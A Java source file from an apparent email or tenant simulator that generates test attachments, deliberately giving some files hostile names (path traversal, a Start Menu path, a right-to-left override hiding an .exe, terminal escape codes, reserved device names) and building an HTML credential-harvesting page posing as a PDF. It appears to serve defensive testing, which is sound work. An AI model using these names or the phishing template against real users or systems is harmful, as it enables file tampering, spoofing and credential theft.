package dev.mci.simulator.tenant;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Builds the attachment catalogue and regenerates each file's bytes from the seed. */
final class Attachments {

  private static final long SALT_CATALOGUE = 0xA77AL;
  private static final long SALT_CONTENT = 0xC0DEL;

  /** Every this-many catalogue files carries a hostile name, so every tenant has some. */
  private static final int HOSTILE_NAME_EVERY = 9;

  /** Which file in each run of {@link #HOSTILE_NAME_EVERY} gets the hostile name. */
  private static final int HOSTILE_NAME_OFFSET = 4;

  /** How many kinds of hostile name {@link #hostileName} knows. */
  static final int HOSTILE_NAME_KINDS = 7;

  private static final String[] WORDS = {
    "the",
    "invoice",
    "total",
    "amount",
    "due",
    "payment",
    "order",
    "shipment",
    "quarter",
    "project",
    "schedule",
    "approved",
    "pending",
    "account",
    "balance",
    "report",
    "summary",
    "review",
    "contract",
    "delivery",
    "terms",
    "net",
    "thirty",
    "days",
    "reference",
    "item"
  };

  private Attachments() {}

  /** {@code count} ordinary files drawn from {@link Names#ATTACHMENT_KINDS}. */
  static List<AttachmentFile> catalogue(long seed, int count) {
    List<AttachmentFile> files = new ArrayList<>(count + 1);
    for (int i = 0; i < count; i++) {
      Rng r = Rng.of(seed, SALT_CATALOGUE, i);
      Names.AttachmentKind kind = r.pick(Names.ATTACHMENT_KINDS);
      String name =
          kind.pattern()
              .replace("%n", Integer.toString(r.between(1000, 99999)))
              .replace("%m", r.pick(Names.MONTHS))
              .replace("%p", r.pick(Names.PROJECTS));
      if (i % HOSTILE_NAME_EVERY == HOSTILE_NAME_OFFSET) {
        // Only the name changes: size and bytes keep their draws, so hashes stay put.
        name = hostileName(name, i / HOSTILE_NAME_EVERY % HOSTILE_NAME_KINDS);
      }
      // Log-uniform size between the kind's bounds, so most files are small.
      double lo = Math.log(kind.minKb() * 1024.0);
      double hi = Math.log(kind.maxKb() * 1024.0);
      long size = Math.round(Math.exp(lo + (hi - lo) * r.nextDouble()));
      int index = i;
      files.add(
          new AttachmentFile(
              index,
              name,
              kind.contentType(),
              size,
              kind.malicious(),
              () -> generate(seed, index, kind.contentType(), size)));
    }
    return files;
  }

  /**
   * A file name crafted to hurt whoever saves or shows it: path traversal, an absolute Windows
   * path, a right-to-left override hiding the real extension, terminal control characters, a
   * reserved device name, an over-long name, and a leading dash with trailing dots and spaces.
   */
  static String hostileName(String name, int kind) {
    int dot = name.lastIndexOf('.');
    String stem = dot > 0 ? name.substring(0, dot) : name;
    String extension = dot > 0 ? name.substring(dot + 1) : "bin";
    switch (kind) {
      case 0:
        return "../../../" + name;
      case 1:
        return "C:\\Users\\Public\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\" + name;
      case 2:
        // Shown as "<stem>fdp.exe" (for a PDF): the override flips what follows it.
        return stem + "\u202E" + "exe." + extension;
      case 3:
        return stem + "\u001B[2J\u0007\r\n." + extension;
      case 4:
        String[] devices = {"CON", "aux", "NUL", "LPT1", "com3"};
        return devices[Math.floorMod(stem.hashCode(), devices.length)] + "." + extension;
      case 5:
        return (stem + "_").repeat(300 / (stem.length() + 1) + 1) + "." + extension;
      default:
        return "-" + name + " . .";
    }
  }

  /** The scenario's hostile attachment: an HTML credential-harvesting page posing as a PDF. */
  static AttachmentFile phishingPage(
      int index, String fileName, String maliciousUrl, String brand) {
    String html =
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>"
            + brand
            + " - Secure Document</title></head>\n<body>\n"
            + "<p>This document is protected. Sign in with your "
            + brand
            + " account to view the wire transfer details.</p>\n"
            + "<form method=\"post\" action=\""
            + maliciousUrl
            + "\">\n<input name=\"email\" type=\"email\">\n"
            + "<input name=\"password\" type=\"password\">\n"
            + "<button type=\"submit\">View document</button>\n</form>\n</body></html>\n";
    byte[] bytes = html.getBytes(StandardCharsets.UTF_8);
    return new AttachmentFile(index, fileName, "text/html", bytes.length, true, bytes::clone);
  }

  /** Deterministic bytes of exactly {@code size} bytes, shaped like the content type. */
  static byte[] generate(long seed, int index, String contentType, long size) {
    byte[] header;
    byte[] trailer;
    boolean text;
    if (contentType.equals("application/pdf")) {
      header = "%PDF-1.7\n%MCI simulator document\n".getBytes(StandardCharsets.US_ASCII);
      trailer = "\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
      text = true;
    } else if (contentType.startsWith("application/vnd.")
        || contentType.equals("application/zip")) {
      header = new byte[] {'P', 'K', 3, 4};
      trailer = new byte[] {'P', 'K', 5, 6};
      text = false;
    } else if (contentType.equals("image/jpeg")) {
      header = new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0};
      trailer = new byte[] {(byte) 0xFF, (byte) 0xD9};
      text = false;
    } else if (contentType.equals("text/html")) {
      header = "<!DOCTYPE html>\n<html><body><p>".getBytes(StandardCharsets.US_ASCII);
      trailer = "</p></body></html>\n".getBytes(StandardCharsets.US_ASCII);
      text = true;
    } else {
      header = new byte[0];
      trailer = new byte[0];
      text = true;
    }
    int total = (int) size;
    byte[] out = new byte[total];
    int headerLength = Math.min(header.length, total);
    System.arraycopy(header, 0, out, 0, headerLength);
    int trailerLength = Math.min(trailer.length, total - headerLength);
    int fillEnd = total - trailerLength;
    System.arraycopy(trailer, 0, out, fillEnd, trailerLength);
    Rng r = Rng.of(seed, SALT_CONTENT, index);
    int position = headerLength;
    if (text) {
      int column = 0;
      while (position < fillEnd) {
        byte[] word = WORDS[r.nextInt(WORDS.length)].getBytes(StandardCharsets.US_ASCII);
        for (int k = 0; k < word.length && position < fillEnd; k++) {
          out[position++] = word[k];
        }
        column += word.length + 1;
        if (position < fillEnd) {
          out[position++] = (byte) (column > 72 ? '\n' : ' ');
          column = column > 72 ? 0 : column;
        }
      }
    } else {
      while (position < fillEnd) {
        long bits = r.nextLong();
        for (int k = 0; k < 8 && position < fillEnd; k++) {
          out[position++] = (byte) (bits >>> (8 * k));
        }
      }
    }
    return out;
  }
}
